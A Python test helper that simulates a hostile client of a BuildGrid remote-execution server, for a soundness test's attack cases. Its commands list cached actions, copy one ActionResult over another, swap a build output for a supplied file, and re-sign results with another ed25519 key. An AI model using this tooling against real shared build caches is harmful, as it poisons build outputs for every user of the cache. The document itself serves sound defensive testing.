"""What a client that may write a REAPI server's ActionCache and CAS can do to the entries of
others, for test_remote_soundness's attacks (issue 41, R1-R3): every read and write goes through
REAPI (ActionCache, CAS), as any client's would.

Run with the Python of BuildGrid's venv (grpcio and BuildGrid's generated REAPI messages, as
fake_reapi.py). One JSON object on stdout per command:
    actions URL CAS_DIR      the Actions whose blobs are in BuildGrid's disk storage CAS_DIR and
                             that have a result: [{action, environment, outputs: {path: digest}}],
                             digests as "hash/size" (finding an Action's digest is what an attacker
                             does by computing it; the test reads the server's disk instead)
    read URL DIGEST FILE     the blob DIGEST into FILE: {}
    copy URL FROM TO         the ActionResult of FROM written over TO's (UpdateActionResult): {}
    replace URL ACTION PATH FILE
                             FILE uploaded, and ACTION's result rewritten with its output PATH
                             naming it (the rest of the result as it was): {digest}
    resign URL ACTION KEY    ACTION's result signed again with the ed25519 private key KEY (PEM),
                             as a colleague with a key of their own would: its nvfresh.signature
                             replaced (reapi/result_signature.hpp's format, written here anew
                             from the grammar): {digest}
"""
import hashlib
import json
import sys
from pathlib import Path

import grpc
from cryptography.hazmat.primitives import serialization
from buildgrid._protos.build.bazel.remote.execution.v2 import remote_execution_pb2 as re
from buildgrid._protos.build.bazel.remote.execution.v2 import remote_execution_pb2_grpc as re_grpc


SIGNATURE = "nvfresh.signature"


def digest_of(text):
    blob_hash, size = text.split("/")
    return re.Digest(hash=blob_hash, size_bytes=int(size))


def text_of(digest):
    return f"{digest.hash}/{digest.size_bytes}"


class Server:
    def __init__(self, url):
        self.channel = grpc.insecure_channel(url.removeprefix("grpc://"))
        self.cache = re_grpc.ActionCacheStub(self.channel)
        self.cas = re_grpc.ContentAddressableStorageStub(self.channel)

    def result(self, action):
        try:
            return self.cache.GetActionResult(re.GetActionResultRequest(action_digest=action))
        except grpc.RpcError as error:
            if error.code() == grpc.StatusCode.NOT_FOUND:
                return None
            raise

    def set_result(self, action, result):
        self.cache.UpdateActionResult(re.UpdateActionResultRequest(action_digest=action,
                                                                   action_result=result))

    def read(self, digest):
        response = self.cas.BatchReadBlobs(re.BatchReadBlobsRequest(digests=[digest]))
        (blob,) = response.responses
        if blob.status.code != 0:
            raise SystemExit(f"reapi_tamper: cannot read {text_of(digest)}: {blob.status.message}")
        return blob.data

    def write(self, data):
        digest = re.Digest(hash=hashlib.sha256(data).hexdigest(), size_bytes=len(data))
        request = re.BatchUpdateBlobsRequest(
            requests=[re.BatchUpdateBlobsRequest.Request(digest=digest, data=data)])
        (answer,) = self.cas.BatchUpdateBlobs(request).responses
        if answer.status.code != 0:
            raise SystemExit(f"reapi_tamper: cannot write {text_of(digest)}: {answer.status.message}")
        return digest


def parsed_action(data, blobs):
    """The Action and its Command when `data` is one (its Command's blob is stored too), else None."""
    action = re.Action()
    try:
        action.ParseFromString(data)
    except Exception:  # any blob is tried: most are no Action
        return None
    command_blob = blobs.get(action.command_digest.hash)
    if len(action.command_digest.hash) != 64 or command_blob is None:
        return None
    command = re.Command()
    try:
        command.ParseFromString(command_blob)
    except Exception:
        return None
    return (action, command) if command.arguments else None


def actions(server, cas_dir):
    # BuildGrid's disk storage splits a blob's hash into a directory and a file name.
    blobs = {str(path).replace("/", "")[-64:]: path.read_bytes()
             for path in Path(cas_dir).rglob("*") if path.is_file()}
    found = []
    for blob_hash, data in blobs.items():
        parsed = parsed_action(data, blobs)
        if parsed is None:
            continue
        digest = re.Digest(hash=blob_hash, size_bytes=len(data))
        result = server.result(digest)
        if result is None:
            continue
        found.append({"action": text_of(digest),
                      "environment": {v.name: v.value for v in parsed[1].environment_variables},
                      "outputs": {f.path: text_of(f.digest) for f in result.output_files}})
    return found


def replace(server, action, path, file):
    result = server.result(action)
    if result is None:
        raise SystemExit(f"reapi_tamper: {text_of(action)} has no result")
    digest = server.write(Path(file).read_bytes())
    for output in result.output_files:
        if output.path == path:
            output.digest.CopyFrom(digest)
            break
    else:
        raise SystemExit(f"reapi_tamper: the result of {text_of(action)} has no output {path}")
    server.set_result(action, result)
    return {"digest": text_of(digest)}


def signed_message(action, result):
    """The bytes nvfresh signs for `result` of `action` (reapi/result_signature.hpp's grammar)."""
    outputs = sorted((json.dumps(f.path, ensure_ascii=False), text_of(f.digest))
                     for f in result.output_files if f.path != SIGNATURE)
    lines = ["nvfresh-signed-result 1", f"action {text_of(action)}",
             f"exit_code {result.exit_code}"]
    lines += [f"output {path} {digest}" for path, digest in outputs]
    lines += [f"stdout {text_of(result.stdout_digest)}", f"stderr {text_of(result.stderr_digest)}"]
    return ("\n".join(lines) + "\n").encode()


def resign(server, action, key_file):
    result = server.result(action)
    if result is None:
        raise SystemExit(f"reapi_tamper: {text_of(action)} has no result")
    key = serialization.load_pem_private_key(Path(key_file).read_bytes(), password=None)
    raw = key.public_key().public_bytes(serialization.Encoding.Raw,
                                        serialization.PublicFormat.Raw)
    signature = key.sign(signed_message(action, result))
    text = (f"nvfresh-signature 1\nkey {hashlib.sha256(raw).hexdigest()}\n"
            f"ed25519 {signature.hex()}\n")
    kept = [f for f in result.output_files if f.path != SIGNATURE]
    del result.output_files[:]
    result.output_files.extend(kept)
    result.output_files.add(path=SIGNATURE).digest.CopyFrom(server.write(text.encode()))
    server.set_result(action, result)
    return {"digest": text_of(result.output_files[-1].digest)}


def main(argv):
    command, url, *rest = argv
    server = Server(url)
    if command == "actions":
        answer = actions(server, rest[0])
    elif command == "read":
        Path(rest[1]).write_bytes(server.read(digest_of(rest[0])))
        answer = {}
    elif command == "copy":
        result = server.result(digest_of(rest[0]))
        if result is None:
            raise SystemExit(f"reapi_tamper: {rest[0]} has no result")
        server.set_result(digest_of(rest[1]), result)
        answer = {}
    elif command == "replace":
        answer = replace(server, digest_of(rest[0]), rest[1], rest[2])
    elif command == "resign":
        answer = resign(server, digest_of(rest[0]), rest[1])
    else:
        raise SystemExit(f"reapi_tamper: unknown command {command}")
    print(json.dumps(answer))


if __name__ == "__main__":
    main(sys.argv[1:])
